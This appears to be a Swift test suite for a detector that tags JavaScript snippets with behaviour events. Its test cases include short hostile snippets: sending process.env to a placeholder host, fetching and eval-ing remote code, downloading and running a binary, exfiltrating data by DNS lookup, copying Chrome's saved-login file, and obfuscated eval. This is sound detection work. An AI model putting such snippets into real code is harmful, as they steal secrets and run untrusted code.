import Behaviors
import Testing

@Suite("Behavior sequences of JavaScript")
struct JavaScriptSequenceTests {
    @Test("names, constants and flows are followed", arguments: cases)
    func givesTheExpectedEvents(_ example: SequenceCase) {
        let names = javaScriptEvents(example.source)
        #expect(occursInOrder(example.expected, in: names), "\(names)")
        for name in example.absent { #expect(!names.contains(name), "\(names)") }
    }

    static let cases: [SequenceCase] = [
        SequenceCase(
            "a destructured require", "const { exec: run } = require('child_process');\nrun('ls -l');",
            ["imp.process", "proc.shell", "arg.constant-command"]),
        SequenceCase(
            "a member of a require", "require('node:child_process').execSync('id');",
            ["imp.process", "cmd.recon", "proc.shell"]),
        SequenceCase(
            "an import under another name", "import { exec as e } from 'child_process';\ne('ls');",
            ["imp.process", "proc.shell"]),
        SequenceCase("an import of all", "import * as fs from 'fs';\nfs.readFileSync('a');", ["imp.files", "fs.read"]),
        SequenceCase(
            "a computed member", "const c = require('child_process');\nc['ex' + 'ec']('ls');",
            ["code.late-attribute", "proc.shell"]),
        SequenceCase("the global object", "globalThis['eval'](name);", ["code.eval", "arg.dynamic"]),
        SequenceCase(
            "the environment sent by a request",
            "const https = require('https');\nconst r = https.request({ host: 'h.invalid', method: 'POST' });\nr.write(JSON.stringify(process.env));\nr.end();",
            ["net.http.any", "env.all", "net.send", "flow.env>send"]),
        SequenceCase(
            "a variable that only chooses a mode",
            "if (process.env.NODE_ENV === 'production') { fetch('https://h.invalid/a'); }",
            ["env.get", "net.http.any"], without: ["flow.env>send"]),
        SequenceCase(
            "an answer evaluated in a promise chain",
            "fetch('https://h.invalid/x').then(r => r.text()).then(t => eval(t));",
            ["net.http.any", "code.eval", "flow.net>exec"]),
        SequenceCase(
            "eval itself as the continuation", "fetch('https://h.invalid/x').then(r => r.text()).then(eval);",
            ["net.http.any", "code.eval", "flow.net>exec"]),
        SequenceCase(
            "an answer collected in pieces",
            "require('https').get('https://h.invalid', res => { let b = ''; res.on('data', c => b += c); res.on('end', () => eval(b)); });",
            ["net.http.get", "code.eval", "flow.net>exec"]),
        SequenceCase(
            "an answer that is parsed", "fetch('https://h.invalid/x').then(r => r.json()).then(d => console.log(d));",
            ["net.http.any"],
            without: ["code.eval", "flow.net>exec"]),
        SequenceCase(
            "awaited requests",
            "async function f() { const r = await fetch('https://h.invalid'); eval(await r.text()); }\nf();",
            ["net.http.any", "code.eval", "flow.net>exec"], without: ["defer"]),
        SequenceCase(
            "a file written and run",
            "const fs = require('fs'), cp = require('child_process'), axios = require('axios');\nasync function go() { const r = await axios.get('https://h.invalid/a'); fs.writeFileSync('/opt/app.bin', r.data); cp.exec('/opt/app.bin'); }\ngo();",
            ["net.http.get", "fs.write", "flow.net>write", "proc.shell", "flow.drop>proc"]),
        SequenceCase(
            "an immediate function", "(function () { require('fs').unlinkSync('a'); })();", ["imp.files", "fs.delete"],
            without: ["defer"]),
        SequenceCase(
            "what nothing calls", "const fs = require('fs');\nfunction f() { fs.unlinkSync('a'); }",
            ["imp.files", "defer", "fs.delete"]),
        SequenceCase(
            "methods of a class",
            "const fs = require('fs');\nclass A { constructor() { this.b(); } b() { fs.unlinkSync('x'); } }\nnew A();",
            ["fs.delete"], without: ["defer"]),
        SequenceCase(
            "a timer with text", "setTimeout('require(\"fs\").unlinkSync(\"x\")', 1);",
            ["code.timer-string", "layer.begin", "imp.files", "fs.delete"]),
        SequenceCase(
            "a function of text", "new Function('a', 'return require(\"fs\").readFileSync(a)')('x');",
            ["code.function", "layer.begin", "imp.files"]),
        SequenceCase(
            "base64 of code", "eval(Buffer.from('cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCJ4Iik7', 'base64').toString());",
            ["dec.base64", "layer.begin", "fs.delete", "layer.end", "code.eval", "flow.dec>exec"]),
        SequenceCase(
            "character codes",
            "eval(String.fromCharCode(114,101,113,117,105,114,101,40,34,102,115,34,41,46,114,109,40,34,120,34,41));",
            ["dec.char-code", "layer.begin", "imp.files", "fs.delete-tree", "code.eval"]),
        SequenceCase(
            "reversed pieces", "const n = 'ssecorp_dlihc'.split('').reverse().join('');\nrequire(n).execSync('ls');",
            ["obf.built-string", "arg.hidden-string", "imp.process", "proc.shell"]),
        SequenceCase(
            "a template address", "const t = load();\nfetch(`https://api.telegram.org/bot${t}/sendMessage`);",
            ["url.telegram", "net.http.any"]),
        SequenceCase(
            "options of a child",
            "require('child_process').spawn('node', ['a.js'], { detached: true, stdio: 'ignore', windowsHide: true });",
            ["arg.detached", "arg.silent", "arg.hidden-window", "proc.spawn"]),
        SequenceCase(
            "a lookup that carries data",
            "const os = require('os'), dns = require('dns');\ndns.lookup(os.hostname() + '.h.invalid', () => {});",
            ["sys.host", "net.dns", "flow.sys>send"]),
        SequenceCase(
            "a changed runtime function",
            "XMLHttpRequest.prototype.open = function () { };\nglobalThis.fetch = function () { };", ["hook.patch"]),
        SequenceCase("a table of names made by a machine", obfuscated, ["obf.names", "obf.string-array"]),
        SequenceCase(
            "a readable file", "const names = ['a', 'b'];\nmodule.exports = names;", [],
            without: ["obf.names", "obf.string-array"]),
        SequenceCase(
            "a browser's stored data",
            "const p = process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data';\nrequire('fs').copyFileSync(p, 'x');",
            ["path.app-data", "cred.browser", "fs.copy"]),
    ]

    private static let obfuscated: String = {
        let names = (0..<12).map { "var _0x\(String(0xa100 + $0, radix: 16)) = \($0);" }.joined(separator: "\n")
        return names + "\nvar _0xffff = [" + (0..<20).map { "'w\($0)'" }.joined(separator: ",") + "];"
    }()
}
